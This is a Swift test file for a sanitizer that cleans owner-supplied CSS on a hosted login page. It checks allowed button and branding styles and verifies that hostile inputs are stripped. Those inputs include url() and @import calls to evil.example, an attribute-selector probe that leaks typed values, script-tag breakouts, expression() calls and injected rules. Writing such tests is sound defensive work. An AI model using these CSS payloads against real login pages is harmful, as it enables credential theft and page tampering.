import Testing
import Wire

@testable import ManagedLogin

/// What an owner's style sheet may do to pages on which others type their passwords.
@Suite struct OwnerStyleTests {
    @Test func takesWhatAWSLetsBeSet() {
        let css = OwnerStyle.classic(
            """
            /* Buttons */
            .submitButton-customizable {
                font-size: 14px; background-color: #6441A5; color: rgb(255, 255, 255);
                margin: 20px 0px 10px 0px;
            }
            .submitButton-customizable:hover { background-color: #5334A1 }
            .background-customizable, .banner-customizable { background-color: #fff; }
            """)
        #expect(
            css == """
                body .submitButton-customizable, body.submitButton-customizable\
                {font-size:14px;background-color:#6441A5;color:rgb(255, 255, 255);margin:20px 0px 10px 0px}
                body .submitButton-customizable:hover{background-color:#5334A1}
                body .background-customizable, body.background-customizable,\
                body .banner-customizable, body.banner-customizable{background-color:#fff}

                """)
    }

    @Test(arguments: [
        "@import url(https://evil.example/x.css);",
        ".label-customizable { background: url(https://evil.example/?x) }",
        ".label-customizable { background: UrL (//evil.example) }",
        ".label-customizable { background: u\\72l(//evil.example) }",
        ".label-customizable { background-image: url(x) }",
        ".label-customizable { position: fixed }",
        ".label-customizable { color: expression(alert(1)) }",
        ".label-customizable { color: red\"; } body { display: none }",
        "input[value^=a] { background: url(//evil.example/a) }",
        ".inputField-customizable[value^=a] { color: red }",
        ".label-customizable .card { color: red }",
        ".label-customizable:has(input) { color: red }",
        "body { display: none }",
        "@media screen { .label-customizable { color: red } }",
        ".label-customizable { color: attr(value) }",
        ".label-customizable { color: image-set(x) }",
        ".label-customizable { color: var(--x) }",
        "</style><script>alert(1)</script>",
        ".label-customizable { color: red",
        "/* .label-customizable { color: red }",
    ]) func leavesOutWhatCouldFetchOrHide(_ css: String) {
        let result = OwnerStyle.classic(css)
        for word in [
            "url", "@", "evil", "expression", "<", "body {", "body{", "position", "[", "attr", "var", "image", "has",
        ] {
            #expect(!result.lowercased().contains(word), "\(result)")
        }
    }

    @Test func takesColoursOfABranding() throws {
        let settings = try JSONValue(
            parsing: Array(
                #"""
                {"categories": {"global": {"colorSchemeMode": "LIGHT"}},
                 "componentClasses": {"buttons": {"borderRadius": 8.0},
                  "link": {"lightMode": {"defaults": {"textColor": "0972d3ff"}}}},
                 "components": {"pageBackground": {"lightMode": {"color": "red;}body{display:none"}},
                  "primaryButton": {"lightMode": {"defaults": {"backgroundColor": "112233ff", "textColor": "ffffffff"}}}}}
                """#.utf8))
        #expect(
            OwnerStyle.branding(settings)
                == ":root{--radius:8px;}\n:root{color-scheme:light;--accent:#112233ff;--accent-ink:#ffffffff;--link:#0972d3ff;}\n"
        )
        #expect(OwnerStyle.branding(.null).isEmpty)
    }
}
